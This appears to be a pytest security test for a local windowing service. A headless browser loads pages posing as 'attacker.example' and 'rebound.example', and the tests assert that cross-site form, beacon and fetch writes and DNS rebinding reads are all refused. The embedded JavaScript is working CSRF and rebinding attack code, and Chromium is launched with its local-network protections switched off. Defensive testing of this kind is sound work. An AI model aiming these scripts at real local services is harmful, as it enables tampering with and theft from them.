"""A real browser looks at a page of another site, which attacks a service: nothing changes, and nothing is read.

    chromium ──▶ http://attacker.example (the page)              cross-site: forms, fetch, beacons to 127.0.0.1
        └──────▶ http://rebound.example  (the page, then Sash)   DNS rebinding: the name leads to the service

A proxy plays the part of DNS: what is asked of rebound.example goes to the service, with its own Host, once the page is
there.
"""

import contextlib
import http.client
import json
import shutil
import subprocess
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from urllib.parse import urlsplit

import pytest
from prometheus_client.parser import text_string_to_metric_families

from tests.support.servers import running_service

CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser") or shutil.which("google-chrome")
WAIT_S = 120

pytestmark = pytest.mark.skipif(CHROMIUM is None, reason="there is no chromium on the path")

SPEC = {"name": "made", "aggregates": {"n": {"function": "count"}}}
# (path, document): writes on REST and Connect.
WRITES = [
    ("/v1/windows", SPEC),
    ("/v1/windows/w/insert", {"time": 7, "value": 7}),
    ("/v1/windows/w/bulk-insert", {"time": [7], "value": [7]}),
    ("/v1/windows/w/bulk-evict", {"time": 100}),
    ("/v1/windows/w/aggregates", {"total": {"function": "sum"}}),
    ("/v1/windows/w/stage?query=q&batch=0", {"time": [7], "value": [7]}),
    ("/sash.v1.Windows/CreateWindow", {"spec": SPEC}),
    ("/sash.v1.Windows/Insert", {"window": "w", "time": 7, "value": 7}),
    ("/sash.v1.Windows/DeleteWindow", {"name": "w"}),
]

CROSS_SITE = """
async function attack(service) {
  const found = [];
  const note = async (what, made) => {
    try { const answer = await made(); found.push([what, answer.type, answer.status]); }
    catch (error) { found.push([what, "error", 0]); }
  };
  for (const [path, document_] of WRITES) {
    const text = JSON.stringify(document_), url = service + path;
    const send = (what, options) => note(what + path, () => fetch(url, { method: "POST", body: text, ...options }));
    await send("plain ", { mode: "no-cors", headers: { "content-type": "text/plain" } });
    await send("json, no-cors ", { mode: "no-cors", headers: { "content-type": "application/json" } });
    await send("form ", { mode: "no-cors", headers: { "content-type": "application/x-www-form-urlencoded" } });
    await send("no type ", { mode: "no-cors", body: new Blob([text]) });
    await send("json ", { headers: { "content-type": "application/json" } });
    navigator.sendBeacon(url, text);
    navigator.sendBeacon(url, new Blob([text]));
    for (const enctype of ["text/plain", "application/x-www-form-urlencoded", "multipart/form-data"]) {
      await new Promise((done) => {
        const frame = document.createElement("iframe"), form = document.createElement("form");
        frame.name = "frame" + Math.random();
        document.body.append(frame, form);
        frame.onload = () => { if (form.sent) done(); };
        const field = document.createElement("input");
        [field.name, field.value] = [text.slice(0, -1) + ', "x": "', '"}'];
        form.append(field);
        Object.assign(form, { method: "POST", action: url, enctype, target: frame.name, sent: true });
        form.submit();
      });
    }
  }
  await note("delete", () => fetch(service + "/v1/windows/w", { method: "DELETE" }));
  await note("read", () => fetch(service + "/v1/windows"));
  return found;
}
"""

REBOUND = """
async function attack() {
  const found = [];
  for (const path of ["/v1/windows", "/v1/windows/w/entries", "/metrics", "/docs", "/openapi.json"]) {
    const answer = await fetch(path);
    found.push([path, answer.status, await answer.text()]);
  }
  for (const [path, document_] of WRITES) {
    const headers = { "content-type": "application/json" };
    const answer = await fetch(path, { method: "POST", headers, body: JSON.stringify(document_) });
    found.push([path, answer.status, await answer.text()]);
  }
  const answer = await fetch("/v1/windows/w", { method: "DELETE" });
  found.push(["delete", answer.status, await answer.text()]);
  return found;
}
"""


class Attacker(BaseHTTPRequestHandler):
    """Serves the page at its own name, and as a proxy passes everything else on to the service."""

    protocol_version = "HTTP/1.1"

    def log_message(self, *arguments):
        pass

    def answer(self):
        path = urlsplit(self.path)._replace(scheme="", netloc="").geturl()
        body = self.rfile.read(int(self.headers.get("content-length", 0)))
        if path == "/attack":
            self.respond(200, {"content-type": "text/html"}, self.server.page.encode())
        elif path == "/report":
            self.respond(204, {}, b"")
            self.server.report = json.loads(body)
            self.server.reported.set()
        else:
            service = http.client.HTTPConnection("127.0.0.1", self.server.service_port, timeout=WAIT_S)
            with contextlib.closing(service):
                service.putrequest(self.command, path, skip_host=True, skip_accept_encoding=True)
                for name, value in self.headers.items():
                    if not name.lower().startswith("proxy-"):
                        service.putheader(name, value)
                service.endheaders(body)
                answer = service.getresponse()
                self.respond(answer.status, dict(answer.getheaders()), answer.read())

    do_GET = do_POST = do_DELETE = do_OPTIONS = do_HEAD = answer

    def respond(self, status, headers, body):
        self.send_response(status)
        for name, value in headers.items():
            if name.lower() not in ("content-length", "transfer-encoding", "date", "server"):
                self.send_header(name, value)
        if status != 204:
            self.send_header("content-length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)


@contextlib.contextmanager
def chromium(profile, *arguments):
    """A browser without a window; it is ended with the block."""
    options = ["--headless", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage", "--no-first-run"]
    # Newer browsers also ask the reader before a page reaches into the local network. The service may not rely on that.
    options += ["--disable-features=LocalNetworkAccessChecks,BlockInsecurePrivateNetworkRequests"]
    process = subprocess.Popen(
        [CHROMIUM, *options, f"--user-data-dir={profile}", *arguments],
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
    )
    try:
        yield process
    finally:
        process.kill()
        process.communicate()


def attacked(service, profile, host, script, call):
    """What the page's script says that it got."""
    server = ThreadingHTTPServer(("127.0.0.1", 0), Attacker)
    server.service_port, server.reported, server.report = service.rest_port, threading.Event(), None
    server.page = f"""<!DOCTYPE html><body><script>
        const WRITES = {json.dumps(WRITES)};
        {script}
        {call}.catch((error) => String(error)).then(
          (found) => fetch("/report", {{ method: "POST", body: JSON.stringify(found) }}));
        </script></body>"""
    thread = threading.Thread(target=server.serve_forever)
    thread.start()
    try:
        proxy = f"--proxy-server=http://127.0.0.1:{server.server_port}"
        with chromium(profile, proxy, f"http://{host}/attack"):
            assert server.reported.wait(WAIT_S)
    finally:
        server.shutdown()
        thread.join()
        server.server_close()
    return server.report


def refusals(http):
    """How often a status was answered."""
    return {
        sample.labels["code"]: sample.value
        for family in text_string_to_metric_families(http.get("/metrics").text)
        for sample in family.samples
        if sample.name == "sash_requests_rejected_total"
    }


@pytest.fixture
def service():
    with running_service() as running:
        http = running.http()
        assert http.post("/v1/windows", json={**SPEC, "name": "w"}).status_code == 201
        assert http.post("/v1/windows/w/insert", json={"time": 1, "value": 1}).status_code == 200
        before = http.get("/v1/windows").json()
        yield running
        assert http.get("/v1/windows").json() == before


def test_a_page_of_another_site(service, tmp_path):
    call = f"attack('http://127.0.0.1:{service.rest_port}')"
    found = attacked(service, tmp_path, "attacker.example", CROSS_SITE, call)
    kinds = {kind for _, kind, _ in found}
    assert kinds == {"opaque", "error"}, found
    # They did arrive, and were refused: four or five tries, two beacons and three forms for each write.
    assert refusals(service.http()).get("403", 0) >= 7 * len(WRITES)


def test_a_name_that_comes_to_lead_to_the_service(service, tmp_path):
    found = attacked(service, tmp_path, "rebound.example", REBOUND, "attack()")
    assert {status for _, status, _ in found} == {421}, found
    assert not any('"windows"' in text or "sash_windows" in text for _, _, text in found)
    assert refusals(service.http()).get("421", 0) >= len(found)  # the browser tries some of them again


@pytest.mark.parametrize(("path", "shown"), [("/docs", "operations-writes-bulk_insert"), ("/", "<title>")])
def test_our_own_pages_work_under_their_policy(service, tmp_path, path, shown):
    arguments = ["--dump-dom", "--virtual-time-budget=10000", "--enable-logging=stderr"]
    with chromium(tmp_path, *arguments, service.rest_url + path) as process:
        page, log = process.communicate(timeout=WAIT_S)
    assert shown in page
    assert "Content Security Policy" not in log, log
